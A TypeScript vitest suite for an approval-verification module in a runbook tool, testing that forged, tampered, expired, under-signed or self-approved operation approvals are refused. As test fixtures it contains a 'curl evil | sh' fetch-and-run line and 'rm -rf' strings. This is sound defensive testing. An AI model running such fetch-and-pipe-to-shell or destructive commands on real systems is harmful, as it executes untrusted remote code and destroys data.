import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { digestRunbook } from '@opsbook/schema';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  APPROVAL_NAMESPACE,
  attachSignature,
  createEnvelope,
  createSshsig,
  type Envelope,
  MAX_ENVELOPE_BYTES,
  parseTrustStore,
  serializeEnvelope,
  statementBytes,
  type VerifyResult,
  verifyApproval,
} from '../src/index.js';
import {
  approval,
  context,
  createWorld,
  NOW,
  signed,
  sshKeygenSign,
  storeYaml,
  type World,
} from './approval-world.js';
import { makeSkSigner } from './sk-signer.js';

let world: World;
beforeAll(async () => {
  world = await createWorld();
});
afterAll(async () => {
  await world?.remove();
});

function refused(result: VerifyResult, code: string): string {
  expect(result.ok ? 'ok' : result.code, result.ok ? 'accepted' : result.message).toBe(code);
  return result.ok ? '' : result.message;
}

function edit(text: string, change: (e: Envelope) => void): string {
  const e = JSON.parse(text) as Envelope;
  change(e);
  return JSON.stringify(e, null, 2);
}

describe('the baseline', () => {
  it('accepts an approval signed by one senior for the exact run', async () => {
    const result = verifyApproval(
      await signed(approval(), [world.people.alice.signer]),
      context(world),
    );
    expect(result.ok).toBe(true);
    if (result.ok) expect(result.signers.map((s) => s.approverId)).toEqual(['alice']);
  });
});

describe('refuses tampered envelopes', () => {
  it('refuses no approval at all', () => {
    refused(verifyApproval(undefined, context(world)), 'APPROVAL_MISSING');
    refused(verifyApproval('', context(world)), 'APPROVAL_MISSING');
  });

  it('refuses an edited payload (another ticket) under the original signature', async () => {
    const text = await signed(approval(), [world.people.alice.signer]);
    const forged = edit(text, (e) => {
      e.payload = Buffer.from(
        Buffer.from(e.payload, 'base64').toString().replace('OPS-42', 'OPS-43'),
      ).toString('base64');
    });
    refused(verifyApproval(forged, context(world, {}, { ticket: 'OPS-43' })), 'SIGNATURE_INVALID');
  });

  it('refuses a payload with one added byte of whitespace', async () => {
    const text = await signed(approval(), [world.people.alice.signer]);
    const forged = edit(text, (e) => {
      e.payload = Buffer.concat([Buffer.from(e.payload, 'base64'), Buffer.from(' ')]).toString(
        'base64',
      );
    });
    refused(verifyApproval(forged, context(world)), 'SIGNATURE_INVALID');
  });

  it('refuses an unknown payloadType', async () => {
    const text = edit(await signed(approval(), [world.people.alice.signer]), (e) => {
      e.payloadType = 'application/vnd.in-toto+json';
    });
    refused(verifyApproval(text, context(world)), 'ENVELOPE_INVALID');
  });

  it('refuses a trust store rotation envelope offered as an approval', async () => {
    const text = edit(await signed(approval(), [world.people.alice.signer]), (e) => {
      e.payloadType = 'application/vnd.opsbook.approvers+yaml';
    });
    refused(verifyApproval(text, context(world)), 'ENVELOPE_INVALID');
  });

  it('refuses JSON with duplicate keys (two payloads, one signed)', async () => {
    const text = await signed(approval(), [world.people.alice.signer]);
    const other = createEnvelope(approval({ ticket: 'OPS-99' })).payload;
    const dup = text.replace('"payload":', `"payload": "${other}",\n  "payload":`);
    expect(dup).not.toBe(text);
    refused(verifyApproval(dup, context(world)), 'ENVELOPE_INVALID');
  });

  it('refuses oversize input', () => {
    const huge = `{"payloadType":"application/vnd.opsbook.approval+json","payload":"${'A'.repeat(MAX_ENVELOPE_BYTES)}","signatures":[]}`;
    refused(verifyApproval(huge, context(world)), 'ENVELOPE_INVALID');
  });

  it('refuses an unknown key in the envelope', async () => {
    const text = edit(await signed(approval(), [world.people.alice.signer]), (e) => {
      (e as unknown as Record<string, unknown>).note = 'trust me';
    });
    refused(verifyApproval(text, context(world)), 'ENVELOPE_INVALID');
  });

  it('refuses non-canonical base64 in the payload', async () => {
    const text = edit(await signed(approval(), [world.people.alice.signer]), (e) => {
      // Same bytes, different text: unused trailing bits set in the last group.
      const p = e.payload.replace(/=+$/, '');
      const pad = e.payload.length - p.length;
      if (pad === 0) e.payload = `${e.payload}\n`;
      else {
        const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
        const last = alphabet.indexOf(p[p.length - 1] as string);
        e.payload = `${p.slice(0, -1)}${alphabet[last + 1]}${'='.repeat(pad)}`;
      }
    });
    refused(verifyApproval(text, context(world)), 'ENVELOPE_INVALID');
  });

  it('refuses a file that is not JSON', () => {
    refused(verifyApproval('-----BEGIN SSH SIGNATURE-----\n', context(world)), 'ENVELOPE_INVALID');
  });
});

describe('refuses bad signatures', () => {
  it('refuses a signature made for another namespace', async () => {
    const env = createEnvelope(approval());
    const payload = statementBytes(approval());
    const armored = await sshKeygenSign(
      world.dir,
      world.people.alice.keyFile,
      'git',
      Buffer.from(env.payload, 'base64'),
    );
    expect(payload.length).toBeGreaterThan(0);
    refused(
      verifyApproval(serializeEnvelope(attachSignature(env, armored)), context(world)),
      'SIGNATURE_INVALID',
    );
  });

  it('refuses a signature over other bytes (taken from another approval)', async () => {
    const other = JSON.parse(
      await signed(approval({ ticket: 'OPS-7' }), [world.people.alice.signer]),
    ) as Envelope;
    const env = createEnvelope(approval());
    env.signatures.push(other.signatures[0] as Envelope['signatures'][number]);
    refused(verifyApproval(serializeEnvelope(env), context(world)), 'SIGNATURE_INVALID');
  });

  it('refuses truncated armor', async () => {
    const text = edit(await signed(approval(), [world.people.alice.signer]), (e) => {
      const s = e.signatures[0]!;
      const lines = s.sshsig.split('\n');
      s.sshsig = [...lines.slice(0, 2), ...lines.slice(-2)].join('\n');
    });
    refused(verifyApproval(text, context(world)), 'SIGNATURE_INVALID');
  });

  it('refuses garbled armor', async () => {
    const text = edit(await signed(approval(), [world.people.alice.signer]), (e) => {
      const s = e.signatures[0]!;
      s.sshsig = s.sshsig.replace('-----\n', '-----\n!');
    });
    refused(verifyApproval(text, context(world)), 'SIGNATURE_INVALID');
  });

  it('refuses a flipped bit inside the signature value', async () => {
    const text = edit(await signed(approval(), [world.people.alice.signer]), (e) => {
      const s = e.signatures[0]!;
      const body = s.sshsig.split('\n').slice(1, -2).join('');
      const blob = Buffer.from(body, 'base64');
      blob[blob.length - 5] = (blob[blob.length - 5] as number) ^ 1;
      const b64 = blob
        .toString('base64')
        .match(/.{1,70}/g)!
        .join('\n');
      s.sshsig = `-----BEGIN SSH SIGNATURE-----\n${b64}\n-----END SSH SIGNATURE-----\n`;
    });
    refused(verifyApproval(text, context(world)), 'SIGNATURE_INVALID');
  });

  it('refuses a keyid that names another key than the one that signed', async () => {
    const text = edit(await signed(approval(), [world.people.alice.signer]), (e) => {
      e.signatures[0]!.keyid = world.people.bob.fingerprint;
    });
    refused(verifyApproval(text, context(world)), 'SIGNATURE_INVALID');
  });

  it('refuses a security key signature without the user-presence flag', async () => {
    const sk = makeSkSigner('ed25519', 0x00);
    const store = parseTrustStore(
      Buffer.from(
        storeYaml(world.people, 1).replace(
          'keys: ["' + world.people.carol.publicLine,
          `keys: ["${sk.publicKey.type} ${sk.publicKey.blob.toString('base64')}", "${world.people.carol.publicLine}`,
        ),
      ),
    );
    // opsbook's own signEnvelope refuses to hand out such a signature, so build it by hand.
    const env = createEnvelope(approval());
    const armored = await createSshsig(Buffer.from(env.payload, 'base64'), sk, APPROVAL_NAMESPACE);
    const msg = refused(
      verifyApproval(serializeEnvelope(attachSignature(env, armored)), context(world, { store })),
      'SIGNATURE_INVALID',
    );
    expect(msg).toContain('touch');
    const touched = makeSkSigner('ecdsa', 0x05);
    const store2 = parseTrustStore(
      Buffer.from(
        storeYaml(world.people, 1).replace(
          'keys: ["' + world.people.carol.publicLine,
          `keys: ["${touched.publicKey.type} ${touched.publicKey.blob.toString('base64')}", "${world.people.carol.publicLine}`,
        ),
      ),
    );
    const ok = verifyApproval(
      await signed(approval(), [touched]),
      context(world, { store: store2 }),
    );
    expect(ok.ok && ok.signers[0]?.approverId).toBe('carol');
  });
});

describe('refuses signers the trust store does not allow', () => {
  it('refuses an unknown key', async () => {
    refused(
      verifyApproval(await signed(approval(), [world.people.mallory.signer]), context(world)),
      'SIGNER_UNTRUSTED',
    );
  });

  it('refuses a valid key without the senior role', async () => {
    refused(
      verifyApproval(await signed(approval(), [world.people.dave.signer]), context(world)),
      'SIGNER_NOT_SENIOR',
    );
  });

  it('refuses a revoked key', async () => {
    refused(
      verifyApproval(await signed(approval(), [world.people.erin.signer]), context(world)),
      'KEY_REVOKED',
    );
  });

  it('refuses a revoked key even next to a valid senior signature', async () => {
    refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer, world.people.erin.signer]),
        context(world),
      ),
      'KEY_REVOKED',
    );
  });

  it('refuses an unsigned approval', async () => {
    refused(verifyApproval(await signed(approval(), []), context(world)), 'THRESHOLD_NOT_MET');
  });
});

describe('refuses approvals for another run', () => {
  it('refuses another ticket', async () => {
    const msg = refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { ticket: 'OPS-43' }),
      ),
      'TICKET_MISMATCH',
    );
    expect(msg).toMatch(/OPS-42.*OPS-43/);
  });

  it('refuses another runbook', async () => {
    const ctx = context(
      world,
      {},
      { runbook: { name: 'rm-rf', version: '1.2.0', digest: `sha256:${'a1'.repeat(32)}` } },
    );
    refused(
      verifyApproval(await signed(approval(), [world.people.alice.signer]), ctx),
      'RUNBOOK_MISMATCH',
    );
  });

  it('refuses a version bump', async () => {
    const ctx = context(
      world,
      {},
      { runbook: { name: 'disk-cleanup', version: '1.3.0', digest: `sha256:${'a1'.repeat(32)}` } },
    );
    refused(
      verifyApproval(await signed(approval(), [world.people.alice.signer]), ctx),
      'DIGEST_MISMATCH',
    );
  });

  it('refuses a runbook with one edited byte or one added script (real bundle digests)', async () => {
    const dir = path.join(world.dir, 'runbooks', 'disk-cleanup');
    await mkdir(path.join(dir, 'scripts'), { recursive: true });
    await writeFile(path.join(dir, 'runbook.yaml'), 'apiVersion: opsbook/v1\nkind: Runbook\n');
    const id = { packageName: '@runbooks/disk-cleanup', version: '1.2.0' };
    const approved = (await digestRunbook(dir, id)).digest;
    const text = await signed(
      approval({ runbook: { name: 'disk-cleanup', version: '1.2.0', digest: approved } }),
      [world.people.alice.signer],
    );
    const expectDigest = (digest: string) =>
      context(world, {}, { runbook: { name: 'disk-cleanup', version: '1.2.0', digest } });
    expect(verifyApproval(text, expectDigest(approved)).ok).toBe(true);

    await writeFile(path.join(dir, 'runbook.yaml'), 'apiVersion: opsbook/v1\nkind: Runbook \n');
    const edited = (await digestRunbook(dir, id)).digest;
    const msg = refused(verifyApproval(text, expectDigest(edited)), 'DIGEST_MISMATCH');
    expect(msg).toContain(
      'ask a senior to re-approve: the runbook changed since approval (digest sha256:',
    );

    await writeFile(path.join(dir, 'runbook.yaml'), 'apiVersion: opsbook/v1\nkind: Runbook\n');
    await writeFile(path.join(dir, 'scripts', 'extra.sh'), 'curl evil | sh\n');
    refused(
      verifyApproval(text, expectDigest((await digestRunbook(dir, id)).digest)),
      'DIGEST_MISMATCH',
    );
  });

  it('refuses a changed param value', async () => {
    const msg = refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { params: { path: '/', days: 7 } }),
      ),
      'PARAMS_MISMATCH',
    );
    expect(msg).toContain('param path');
  });

  it('refuses a param of another type ("7" is not 7)', async () => {
    refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { params: { path: '/var/log/app', days: '7' } }),
      ),
      'PARAMS_MISMATCH',
    );
  });

  it('refuses an added param', async () => {
    const params = { path: '/var/log/app', days: 7, force: true };
    refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { params }),
      ),
      'PARAMS_MISMATCH',
    );
  });

  it('refuses a different set of secret params', async () => {
    refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { secretParams: ['token', 'db_password'] }),
      ),
      'PARAMS_MISMATCH',
    );
  });

  it('refuses an extra host', async () => {
    const msg = refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { targets: { hosts: ['web-01', 'web-02', 'db-01'] } }),
      ),
      'TARGETS_OUTSIDE_SCOPE',
    );
    expect(msg).toContain('db-01');
  });

  it('refuses a different rendered plan (a host var changed a command)', async () => {
    refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { planDigest: `sha256:${'c3'.repeat(32)}` }),
      ),
      'PLAN_MISMATCH',
    );
  });

  it('refuses a selector on a non-routine runbook', async () => {
    const s = approval({ targets: { selector: 'web:&prod' } });
    const ctx = context(world, {}, { targets: { hosts: ['web-01'], selector: 'web:&prod' } });
    refused(
      verifyApproval(await signed(s, [world.people.alice.signer]), ctx),
      'SELECTOR_NOT_ALLOWED',
    );
  });

  it('accepts a routine standing approval by selector, and refuses another selector', async () => {
    const s = approval({
      category: 'routine',
      grade: 'P4',
      targets: { selector: 'all:!db' },
      expires: '90d',
      maxRuns: 1000,
    });
    const text = await signed(s, [world.people.alice.signer]);
    const expected = {
      category: 'routine' as const,
      grade: 'P4' as const,
      targets: { hosts: ['web-01', 'web-09'], selector: 'all:!db' },
    };
    expect(verifyApproval(text, context(world, {}, expected)).ok).toBe(true);
    refused(
      verifyApproval(
        text,
        context(world, {}, { ...expected, targets: { hosts: ['db-01'], selector: 'all' } }),
      ),
      'TARGETS_OUTSIDE_SCOPE',
    );
  });

  it("refuses a grade lower than the ticket's (a P1 approved as P3)", async () => {
    refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { grade: 'P1' }),
      ),
      'GRADE_MISMATCH',
    );
  });

  it('refuses another category', async () => {
    refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, {}, { category: 'change' }),
      ),
      'CATEGORY_MISMATCH',
    );
  });

  it('refuses an executor other than the one named', async () => {
    refused(
      verifyApproval(
        await signed(approval({ executor: 'ivan' }), [world.people.alice.signer]),
        context(world),
      ),
      'EXECUTOR_MISMATCH',
    );
  });
});

describe('refuses approvals outside their window or runs', () => {
  it('refuses an expired approval', async () => {
    const text = await signed(approval(), [world.people.alice.signer]);
    refused(
      verifyApproval(text, context(world, { now: new Date(NOW.getTime() + 24 * 3600_000) })),
      'EXPIRED',
    );
  });

  it('refuses an approval that is not yet valid', async () => {
    const text = await signed(approval({ notBefore: new Date(NOW.getTime() + 3600_000) }), [
      world.people.alice.signer,
    ]);
    refused(verifyApproval(text, context(world)), 'NOT_YET_VALID');
  });

  it('refuses a validity longer than policy allows (8d for an incident, 91d for routine)', async () => {
    refused(
      verifyApproval(
        await signed(approval({ expires: '8d' }), [world.people.alice.signer]),
        context(world),
      ),
      'VALIDITY_TOO_LONG',
    );
    const routine = approval({ category: 'routine', grade: 'P4', expires: '91d' });
    refused(
      verifyApproval(
        await signed(routine, [world.people.alice.signer]),
        context(world, {}, { category: 'routine', grade: 'P4' }),
      ),
      'VALIDITY_TOO_LONG',
    );
  });

  it('refuses a P1 approval valid longer than the P1 limit of 24h', async () => {
    refused(
      verifyApproval(
        await signed(approval({ grade: 'P1', expires: '25h' }), [
          world.people.alice.signer,
          world.people.bob.signer,
        ]),
        context(world, {}, { grade: 'P1' }),
      ),
      'VALIDITY_TOO_LONG',
    );
  });

  it('refuses a run beyond maxRuns', async () => {
    const text = await signed(approval({ maxRuns: 2 }), [world.people.alice.signer]);
    expect(verifyApproval(text, context(world, { runsUsed: 1 })).ok).toBe(true);
    refused(verifyApproval(text, context(world, { runsUsed: 2 })), 'RUNS_EXHAUSTED');
  });
});

describe('counts people, not signatures', () => {
  const p1 = { grade: 'P1' as const };

  it('refuses a P1 with one signature', async () => {
    refused(
      verifyApproval(
        await signed(approval(p1), [world.people.alice.signer]),
        context(world, {}, p1),
      ),
      'THRESHOLD_NOT_MET',
    );
  });

  it('refuses the same key signing twice toward a threshold', async () => {
    const env = JSON.parse(
      await signed(approval(p1), [world.people.bob.signer, world.people.bob.signer]),
    ) as Envelope;
    expect(env.signatures).toHaveLength(2); // ECDSA signatures differ each time: both attached
    refused(verifyApproval(serializeEnvelope(env), context(world, {}, p1)), 'THRESHOLD_NOT_MET');
    env.signatures.push(env.signatures[0]!);
    refused(verifyApproval(serializeEnvelope(env), context(world, {}, p1)), 'THRESHOLD_NOT_MET');
  });

  it('refuses two keys of the same approver toward a threshold', async () => {
    refused(
      verifyApproval(
        await signed(approval(p1), [world.people.alice.signer, world.people.alice2.signer]),
        context(world, {}, p1),
      ),
      'THRESHOLD_NOT_MET',
    );
  });

  it('accepts a P1 with two distinct seniors (ed25519 and rsa)', async () => {
    const result = verifyApproval(
      await signed(approval(p1), [world.people.alice.signer, world.people.carol.signer]),
      context(world, {}, p1),
    );
    expect(result.ok && result.signers.map((s) => s.approverId)).toEqual(['alice', 'carol']);
  });
});

describe('refuses self-approval', () => {
  it('refuses a signer who is the executor', async () => {
    refused(
      verifyApproval(
        await signed(approval(), [world.people.frank.signer]),
        context(world, { executor: { id: 'frank' } }),
      ),
      'SELF_APPROVAL',
    );
  });

  it('refuses a signer who is the executor by Jira account', async () => {
    refused(
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, { executor: { id: 'a.senior', jira: 'acc-alice' } }),
      ),
      'SELF_APPROVAL',
    );
  });

  it('refuses a signer who proposed the plan', async () => {
    refused(
      verifyApproval(
        await signed(approval({ proposer: 'frank' }), [world.people.frank.signer]),
        context(world),
      ),
      'SELF_APPROVAL',
    );
  });

  it('refuses a signer who is named as the executor, even when a colleague runs it', async () => {
    refused(
      verifyApproval(
        await signed(approval({ executor: 'frank' }), [world.people.frank.signer]),
        context(world, { executor: { id: 'frank' } }),
      ),
      'SELF_APPROVAL',
    );
  });
});

describe('refuses signed payloads that are not valid statements', () => {
  it('refuses a signed statement with duplicate keys', async () => {
    const bytes = statementBytes(approval())
      .toString()
      .replace('"ticket": "OPS-42",', '"ticket": "OPS-42",\n  "ticket": "OPS-1",');
    const env: Envelope = {
      payloadType: 'application/vnd.opsbook.approval+json',
      payload: Buffer.from(bytes).toString('base64'),
      signatures: [],
    };
    refused(
      verifyApproval(await signed(env, [world.people.alice.signer]), context(world)),
      'STATEMENT_INVALID',
    );
  });

  it('refuses a signed statement with an unknown key', async () => {
    const bytes = JSON.stringify({ ...approval(), comment: 'also run rm -rf' });
    const env: Envelope = {
      payloadType: 'application/vnd.opsbook.approval+json',
      payload: Buffer.from(bytes).toString('base64'),
      signatures: [],
    };
    refused(
      verifyApproval(await signed(env, [world.people.alice.signer]), context(world)),
      'STATEMENT_INVALID',
    );
  });
});

describe('every refusal says what to do next', () => {
  it('names an action in each message', async () => {
    const text = await signed(approval(), [world.people.mallory.signer]);
    const results = [
      verifyApproval(undefined, context(world)),
      verifyApproval(text, context(world)),
      verifyApproval(
        await signed(approval(), [world.people.alice.signer]),
        context(world, { runsUsed: 5 }),
      ),
    ];
    for (const r of results) {
      expect(r.ok).toBe(false);
      if (!r.ok) expect(r.message).toMatch(/: .*\b(ask|create|run|sign|use|wait|restore|attach)\b/);
    }
  });
});
